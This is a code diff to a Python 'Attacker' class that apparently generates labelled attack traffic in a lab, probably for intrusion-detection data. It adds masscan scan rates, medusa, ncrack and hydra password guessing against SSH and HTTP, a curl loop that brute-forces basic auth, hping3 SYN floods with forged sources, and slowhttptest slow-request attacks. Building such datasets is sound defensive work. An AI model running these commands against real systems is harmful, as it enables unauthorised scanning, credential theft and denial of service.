@@ -14,6 +14,7 @@ from network import HERE, batch_in, inside
 from servers import WORK
 
 SLACK_BEFORE, SLACK_AFTER = 0.5, 5.0
+FORGED_SLACK = 3.0  # exporters' clocks are rough, and nobody else bears a forged address
 QUIET = {"stdin": subprocess.DEVNULL, "stdout": subprocess.DEVNULL, "stderr": subprocess.DEVNULL}
 
 
@@ -76,6 +77,8 @@ class Attacker:
             "connect6": [*nmap, "-6", "-sT", "-T5", goal],
             "syn-slowish": [*nmap, "-sS", "--min-rate", "12", "--max-rate", "18", goal],
             "masscan": ["masscan", goal, "-p", ports, "--rate", "35", "--wait", "3", "-e", "eth0"],
+            "masscan-fast": ["masscan", goal, "-p", ports, "--rate", "90", "--wait", "3", "-e", "eth0"],
+            "masscan-slow": ["masscan", goal, "-p", ports, "--rate", "12", "--wait", "3", "-e", "eth0"],
         }[flavour]
         self.run(host, *command, timeout=60)
         self.record("port-scan", source, goal, f"proto tcp and port {ports}", began)
@@ -118,6 +121,8 @@ class Attacker:
         command = {
             "hydra6": ["hydra", "-I", "-q", "-l", "alice", "-P", words, "-t", "12", "-6", f"ssh://[{goal}]"],
             "medusa": ["medusa", "-h", goal, "-u", "carol", "-P", words, "-M", "ssh", "-t", "3"],
+            "medusa-slow": ["medusa", "-h", goal, "-u", "dave", "-P", words, "-M", "ssh", "-t", "1"],
+            "loop": ["sh", "-c", loop],
             "ncrack": ["ncrack", "--user", "bob", "-P", words, "-g", "cl=1,CL=3,at=1,cd=300ms", f"ssh://{goal}"],
             "loop6": ["sh", "-c", loop],
         }[flavour]
@@ -127,7 +132,12 @@ class Attacker:
     def http_guessing(self, host, target, port, count, flavour):
         goal = self.site.v4(target)
         words, began = self.words(f"http-{host}-{flavour}", count), time.time()
+        loop = (f"while read word; do curl -q -s -o /dev/null --max-time 5 -u \"erin:$word\" http://{goal}:{port}/private/; "
+                f"sleep 0.4; done < {words}")
         command = {
+            "loop": ["sh", "-c", loop],
+            "ncrack-slow": ["ncrack", "--user", "carol", "-P", words, "-g", "cl=1,CL=2,at=1,cd=600ms,path=/private/",
+                            f"http://{goal}:{port}"],
             "hydra": ["hydra", "-I", "-q", "-l", "alice", "-P", words, "-t", "4", "-s", port, goal, "http-get", "/private/"],
             "hydra-slow": ["hydra", "-I", "-q", "-l", "bob", "-P", words, "-t", "1", "-s", port, goal, "http-get",
                            "/private/"],
@@ -143,14 +153,15 @@ class Attacker:
 
     def syn_flood(self, host, target, port, count, flavour):
         goal, began = self.site.v4(target), time.time()
-        pause = {"forged": "u8000", "forged-fast": "u3000", "own": "u12000", "own-fast": "u5000"}[flavour]
+        pause = {"forged": "u8000", "forged-fast": "u3000", "forged-slow": "u25000", "own": "u12000", "own-fast": "u5000",
+                 "own-slow": "u40000"}[flavour]
         forged = ["--rand-source"] if flavour.startswith("forged") else []
         options = ["-s", random.randrange(2000, 50000), *([] if self.train else ["-d", "0", "-w", "512"])]
         self.run(host, "hping3", "-S", "-q", "-p", port, "-i", pause, "-c", count, *options, *forged, goal, timeout=30)
         if forged:
             terms = (f"host {goal} and port {port} and proto tcp and not src {self.site.inside_v4} "
                      f"and not src {self.site.outside_v4}")
-            window = Window("syn-flood", terms, began - SLACK_BEFORE, time.time() + SLACK_AFTER)
+            window = Window("syn-flood", terms, began - FORGED_SLACK, time.time() + SLACK_AFTER)
             with self.lock:
                 self.windows.append(window)
         else:
@@ -161,6 +172,7 @@ class Attacker:
         tool = ["slowhttptest", "-c", count, "-r", "6", "-p", "3"]
         command = {
             "headers": [*tool, "-H", "-i", "9", "-x", "12", "-l", "75", "-u", f"http://{goal}:{port}/"],
+            "headers-long": [*tool, "-H", "-i", "20", "-x", "30", "-l", "50", "-u", f"http://{goal}:{port}/"],
             "body": [*tool, "-B", "-i", "12", "-x", "10", "-l", "80", "-s", "4096", "-u", f"http://{goal}:{port}/upload"],
             "read": [*tool, "-X", "-w", "10", "-y", "20", "-n", "5", "-z", "32", "-k", "3", "-l", "60",
                      "-u", f"http://{goal}:{port}/o/1m"],
